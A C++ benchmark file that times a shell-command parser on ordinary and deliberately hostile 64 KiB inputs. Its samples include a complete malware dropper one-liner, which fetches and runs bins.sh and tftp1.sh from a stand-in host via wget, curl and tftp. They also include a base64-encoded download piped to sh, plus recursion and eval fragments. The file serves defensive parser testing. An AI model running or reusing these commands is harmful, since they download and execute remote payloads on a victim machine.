// Cost of reading a line into commands: ordinary lines, and hostile texts of 64 KiB (bar: 1 ms).
#include "shell/walker.hpp"

#include <benchmark/benchmark.h>

#include <string>
#include <string_view>

namespace {

using namespace rulehost::shell;

struct sample {
    std::string_view name;
    std::string_view text;
};

constexpr sample ordinary[]{
    {"one_command", "cat /proc/cpuinfo"},
    {"dropper",
     "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.7/bins.sh; curl -O "
     "http://192.0.2.7/bins.sh; "
     "chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.7 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf bins.sh "
     "tftp1.sh"},
    {"decoder", "echo d2dldCBodHRwOi8vMTkyLjAuMi43L3g= | base64 -d | sh"},
};

/// Pieces that are repeated up to 64 KiB.
constexpr sample hostile[]{
    {"subshells", "("},
    {"substitutions", "$("},
    {"backticks", "`"},
    {"escapes", "\\a"},
    {"arithmetic", "(("},
    {"braces", "{a,b}"},
    {"doubling", "a=$a$a;"},
    {"here_documents", "<<E "},
    {"evals", "eval "},
    {"functions", "f(){ f;};f;"},
    {"loops", "for i in 1 2 3;do "},
    {"cut", "${a##*b*c*d*}"},
    {"globs", "*/?[a-z]* "},
    {"pipes", "a|"},
    {"shells", "sh -c '"},
    {"separators", ";&|"},
    {"redirects", ">a "},
    {"xargs", "echo a b|xargs sh -c;"},
    {"wrappers", "sudo "},
    {"quotes", "'\""},
    {"assignments", "a=b "},
    {"decoders", "echo aWQ=|base64 -d|sh;"},
    {"replace", "a=aaaaaaaa;${a//a/aaaaaaaa}"},
    {"programs", "python -c 'system(\"id\")';"},
};

std::string filled(std::string_view piece) {
    std::string all;
    while (all.size() + piece.size() <= 64 * 1024)
        all += piece;
    return all;
}

void read_line(benchmark::State& state, std::string const& line) {
    auto const programs = program_table::shipped();
    walker reads(*programs);
    reading result;
    for (auto _ : state)
        for (std::size_t at = 0; at < line.size();)
            at = reads.read(line, at, result);
    state.SetBytesProcessed(state.iterations() * static_cast<std::int64_t>(line.size()));
}

int const registered = [] {
    for (auto const& each : ordinary)
        benchmark::RegisterBenchmark(("shell/" + std::string(each.name)).c_str(), read_line, std::string(each.text));
    for (auto const& each : hostile)
        benchmark::RegisterBenchmark(("shell/hostile/" + std::string(each.name)).c_str(), read_line, filled(each.text));
    return 0;
}();

} // namespace
